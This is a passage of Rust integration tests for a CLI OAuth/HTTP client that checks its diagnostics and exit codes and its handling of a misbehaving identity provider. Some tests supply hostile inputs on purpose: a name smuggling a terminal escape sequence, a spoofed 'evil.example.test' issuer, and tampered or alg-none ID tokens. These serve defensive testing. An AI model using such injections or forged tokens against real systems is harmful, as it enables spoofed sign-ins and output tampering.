        if let Ok(text) = std::fs::read_to_string(world.work().join(file)) {
            world.write(file, &text.replace("\"machine\"", "\"ma\\u001b[2Jchine\""));
        }
    }
    let name = "ma\u{1b}[2Jchine";
    for args in [
        &["login", "--name", name][..],
        &["whoami", "--as", name],
        &["send", "orders.http#orders", "--as", name],
        &["logout", name],
    ] {
        let ran = world.run(args).expect(0);
        assert!(!ran.out.contains('\u{1b}') && !ran.err.contains('\u{1b}'), "{ran}");
    }
}

// Doctor ----------------------------------------------------------------------------------------------------------

#[test]
fn doctor_looks_at_every_part() {
    let world = World::new();
    world.login_machine();
    let ran = world.run(&["doctor"]).expect(0);
    ran.prints(&["✔ bearcat", "✔ terminal", "✔ settings", "✔ workspace", "✔ vault", "1 sessions", world.issuer()]);
    let parts = world.run(&["doctor", "--json"]).expect(0).json();
    let parts = parts.as_array().unwrap();
    assert!(parts.iter().all(|part| part["ok"] == true), "{parts:#?}");
    assert!(parts.iter().filter(|part| part["part"] == "provider").count() >= 3, "{parts:#?}");
}

#[test]
fn doctor_says_what_to_do_about_what_does_not_work() {
    let world = World::new();
    let args = ["doctor"];
    let ran = Ran::of(&args, &mut world.plain(&args)).expect(3);
    ran.prints(&["✘ vault", "No keyring", "--vault file", "✔ provider"]);
    world.demo.faults().plan(Endpoint::Discovery, Mishap::Dropped, None);
    world.run(&["doctor"]).expect(4).prints(&["✘ provider", "✔ vault"]);
    world.write("http-client.env.json", "{ \"demo\": ");
    let parts = world.run(&["doctor", "--json"]).expect(2).json();
    let part = parts.as_array().unwrap().iter().find(|part| part["part"] == "workspace").unwrap().clone();
    assert_eq!(part["ok"], false, "{part:#}");
}

// Files and usage -------------------------------------------------------------------------------------------------

#[test]
fn malformed_files_are_named_with_their_place() {
    let world = World::new();
    world.write("http-client.env.json", "{\n  \"demo\": {\n    \"base\": oops\n  }\n}\n");
    for args in [&["whoami", "--as", "jane"][..], &["login", "--name", "jane"], &["token", "--as", "jane"]] {
        world.run(args).expect(2).says(&["http-client.env.json:3:"]);
    }
    let config = world.home().join("bearcat-home/config");
    std::fs::create_dir_all(&config).unwrap();
    std::fs::write(config.join("config.toml"), "theme = \"dark\"\nnonsense = 1\n").unwrap();
    world.run(&["whoami", "--as", "anonymous"]).says(&["config.toml:2:", "nonsense"]);
    world.write("broken.http", "GET {{base\n\n###\nBAD METHOD\n\n### fine\n# @no-auth\nGET http://127.0.0.1:1/\n");
    let ran = world.run(&["send", "broken.http#1"]).expect(2);
    ran.says(&["broken.http:1:"]);
}

#[test]
fn unresolved_variables_are_named_with_their_places() {
    let world = World::new();
    world.write("vars.http", "# @no-auth\nPOST {{base}}/{{nowhere}}\nX-One: {{missing}}\n\n{{also}}\n");
    let ran = world.run(&["send", "vars.http"]).expect(2);
    ran.says(&["vars.http:2:15", "nowhere", "vars.http:3:8", "missing", "vars.http:5:1", "also"]);
    let problem = world.run(&["send", "vars.http", "--json"]).expect(2).json();
    assert_eq!(problem["error"]["place"]["line"], 2, "{problem:#}");
    assert_eq!(problem["error"]["kind"], "input");
}

#[rstest]
#[case(&["frobnicate", "--x"], 2)]
#[case(&["send"], 2)]
#[case(&["login", "--device", "--pkce"], 2)]
#[case(&["token", "--id", "--access"], 2)]
#[case(&["whoami", "--vault", "cloud"], 2)]
#[case(&["login", "not an issuer"], 2)]
#[case(&["."], 2)]
#[case(&["no/such/folder"], 2)]
#[case(&["--help"], 0)]
#[case(&["--version"], 0)]
#[case(&["completions", "bash"], 0)]
#[case(&["man"], 0)]
#[case(&["whoami"], 3)]
fn usage(#[case] args: &[&str], #[case] code: i32) {
    let home = tempfile::tempdir().unwrap();
    let mut command = support::bearcat(home.path(), args);
    let ran = Ran::of(args, command.stdin(Stdio::null())).expect(code);
    assert_eq!(ran.out.is_empty(), code != 0, "{ran}");
    assert_eq!(ran.err.is_empty(), code == 0, "{ran}");
}

#[test]
fn help_tells_the_exit_codes() {
    let home = tempfile::tempdir().unwrap();
    let ran = Ran::of(&["--help"], &mut support::bearcat(home.path(), &["--help"]));
    ran.prints(&[
        "Exit codes: 0 all good · 1 an expectation failed · 2 usage or bad file · 3 not signed in",
        "4 network",
    ]);
}

// Providers that misbehave ----------------------------------------------------------------------------------------

#[test]
fn an_issuer_that_nobody_listens_at() {
    let world = World::new();
    let gone = format!("http://127.0.0.1:{}", free_port());
    let args = ["login", &gone, "--client-id", "some-client"];
    world.run(&args).expect(4).says(&["Nothing answers at `127.0.0.1", "discovery"]);
    let args = ["login", "nobody.example.test", "--client-id", "some-client", "--json"];
    let ran = world.run(&args).expect(4).says(&["nobody.example.test"]);
    assert_eq!(ran.json()["error"]["kind"], "network");
}

#[rstest]
#[case::html(Endpoint::Discovery, Mishap::Html, 3, &["is not an issuer", "HTML", "kinde.com"])]
#[case::not_found(Endpoint::Discovery, Mishap::NotFound, 3, &["is not an issuer", "404"])]
#[case::error(Endpoint::Discovery, Mishap::ServerError, 4, &["500", "try again"])]
#[case::dropped(Endpoint::Discovery, Mishap::Dropped, 4, &["closed the connection", "discovery"])]
#[case::no_device_endpoint(Endpoint::DeviceAuthorization, Mishap::NotFound, 3, &["no device endpoint", "404 at", "--pkce"])]
#[case::device_error(Endpoint::DeviceAuthorization, Mishap::ServerError, 4, &["500"])]
#[case::device_html(Endpoint::DeviceAuthorization, Mishap::Html, 3, &["device request", "cannot use"])]
#[case::too_many(Endpoint::DeviceAuthorization, Mishap::TooManyRequests { reset: 17 }, 4, &["wait", "429", "17 s"])]
#[case::device_dropped(Endpoint::DeviceAuthorization, Mishap::Dropped, 4, &["closed the connection", "device request"])]
#[case::no_keys(Endpoint::Keys, Mishap::NotFound, 3, &["ID token cannot be verified", "404"])]
fn faults_of_a_device_login(
    #[case] endpoint: Endpoint,
    #[case] mishap: Mishap,
    #[case] code: i32,
    #[case] says: &[&str],
) {
    let world = World::with(|faults| {
        *faults = Faults { device_interval: 1, ..Faults::mishap(endpoint, mishap, None) };
        faults.device_decision = DeviceDecision::Approved(JANE.to_owned());
    });
    world.run(&["login", "--name", "jane"]).expect(code).says(says).says(&["→"]);
    // Nobody is signed in by half.
    world.run(&["token", "--as", "jane"]).expect(3);
}

#[rstest]
#[case::denied(DeviceDecision::Denied, &["refused", "Start again"])]
#[case::expired(DeviceDecision::Expired, &["expired", "Start again"])]
fn a_device_login_that_is_not_approved(#[case] decision: DeviceDecision, #[case] says: &[&str]) {
    let world = World::with(|faults| faults.device_decision = decision);
    world.run(&["login", "--name", "jane"]).expect(3).says(says);
}

#[rstest]
#[case::slow_down(|faults: &mut Faults| faults.slow_down = 1)]
#[case::polls_lost(|faults: &mut Faults| faults.mishaps = Faults::mishap(Endpoint::Token, Mishap::Dropped, Some(1)).mishaps)]
#[case::slow(|faults: &mut Faults| {
    faults.mishaps = Faults::mishap(Endpoint::Discovery, Mishap::Slow(Duration::from_millis(800)), Some(1)).mishaps;
})]
#[case::expires_in_is_text(|faults: &mut Faults| faults.expires_in = bearcat::demo::faults::ExpiresIn::Text)]
fn oddities_that_a_device_login_survives(#[case] turn: fn(&mut Faults)) {
    let world = World::with(|faults| {
        turn(faults);
        faults.device_decision = DeviceDecision::Approved(JANE.to_owned());
    });
    world.run(&["login", "--name", "jane"]).expect(0).prints(&["Signed in", JANE]);
}

#[test]
fn discovery_of_another_issuer() {
    let world = World::with(|faults| faults.discovery_issuer = Some("https://evil.example.test".to_owned()));
    let ran = world.run(&["login", "--name", "jane"]).expect(3);
    ran.says(&["another issuer", "https://evil.example.test", world.issuer()]);
}

#[rstest]
#[case::signature(TokenFault::signed(SignatureFault::Tampered), "ignature")]
#[case::none(TokenFault::signed(SignatureFault::AlgNone), "lgorithm")]
#[case::issuer(TokenFault::setting("iss", "https://evil.example.test"), "ssuer")]
#[case::audience(TokenFault::setting("aud", "somebody-else"), "udience")]
#[case::no_subject(TokenFault::removing("sub"), "sub")]
fn id_tokens_that_are_wrong_sign_nobody_in(#[case] fault: TokenFault, #[case] says: &str) {
    let world = World::with(|faults| {
        faults.id_token = fault;
        faults.device_decision = DeviceDecision::Approved(JANE.to_owned());
    });
    world.run(&["login", "--name", "jane"]).expect(3).says(&["ID token", says]);
    world.run(&["token", "--as", "jane"]).expect(3);
}

#[test]
fn a_client_that_the_provider_does_not_know() {
    let world = World::new();
    let args = ["login", world.issuer(), "--client-id", "0000000000000000000000000000dead", "--name", "stranger"];
    world.run(&args).expect(3).says(&["refused", "invalid_client"]);
    // Nothing is remembered of a sign-in that failed.
    world.run(&["whoami", "--as", "stranger"]).expect(2).says(&["no identity `stranger`"]);
}

#[rstest]
#[case::limited(Mishap::TooManyRequests { reset: 9 }, 4, &["429", "9 s"])]
#[case::broken(Mishap::ServerError, 4, &["500"])]
#[case::dropped(Mishap::Dropped, 4, &["closed the connection", "client credentials request"])]
#[case::html(Mishap::Html, 3, &["client credentials request", "HTML"])]
fn faults_of_the_token_endpoint(#[case] mishap: Mishap, #[case] code: i32, #[case] says: &[&str]) {
    let world = World::new();
    world.demo.faults().plan(Endpoint::Token, mishap, None);
    world.run(&["login", "--name", "machine"]).expect(code).says(says);
}

#[test]
fn a_refused_session_ends_and_a_passing_fault_does_not_end_it() {
    let world = World::with(|faults| faults.access_lifetime = 0);
    world.login_jane().expect(0);
    world.demo.faults().update(|faults| faults.access_lifetime = 86_400);
    world.demo.faults().plan(Endpoint::Token, Mishap::ServerError, None);
    world.run(&["token", "--as", "jane"]).expect(4);
    world.demo.faults().update(|faults| faults.mishaps.clear());
    world.run(&["token", "--as", "jane"]).expect(0);
    // The provider does not know the refresh token any more.
    world.demo.faults().update(|faults| faults.refresh_lifetime = 0);
    world.run(&["token", "--as", "jane", "--refresh"]).expect(0);
    world
        .run(&["token", "--as", "jane", "--refresh"])
        .expect(3)
        .says(&["session of `jane` has ended", "invalid_grant"]);
}
